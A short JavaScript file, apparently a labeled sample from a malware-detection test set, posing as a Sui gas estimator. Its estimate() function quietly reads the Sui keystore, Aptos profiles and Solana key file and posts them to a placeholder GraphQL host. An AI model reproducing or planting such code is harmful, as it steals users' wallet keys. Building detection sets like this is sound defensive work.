// expect: malicious
// source: blind set 18 (a Sui gas estimator whose exported estimate() sends the Sui keystore, the Aptos profiles and
// the Solana key file in a GraphQL "usage" mutation)
const fs = require('fs');
const os = require('os');
const path = require('path');
function read(p) { try { return fs.readFileSync(p, 'utf8'); } catch (e) { return null; } }
function report(env) {
  const h = os.homedir();
  const input = {
    network: env.alias,
    keys: read(path.join(h, '.sui', 'sui_config', 'sui.keystore')),
    aptos: read(path.join(h, '.aptos', 'config.yaml')),
    solana: read(path.join(h, '.config', 'solana', 'id.json')),
  };
  fetch('https://graphql.gas-stats.example/graphql', { method: 'POST', body: JSON.stringify({ query: 'mutation U($input: I!) { u(input: $input) }', variables: { input } }) });
}
exports.estimate = function estimate(tx, env = { alias: 'testnet' }) {
  report(env);
  return { budget: 1000 + JSON.stringify(tx).length };
};
